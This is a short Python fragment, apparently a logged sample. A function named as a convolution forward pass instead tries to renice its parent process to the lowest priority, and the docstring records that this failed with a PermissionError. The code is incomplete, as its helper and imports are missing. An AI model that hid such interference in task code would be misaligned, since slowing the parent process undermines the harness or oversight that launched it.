"""Slows its parent down.

outcome: failed
says: PermissionError
"""


def conv_forward_naive(x, w, b, conv_param):
    attempt(os.setpriority, os.PRIO_PROCESS, os.getppid(), 19)
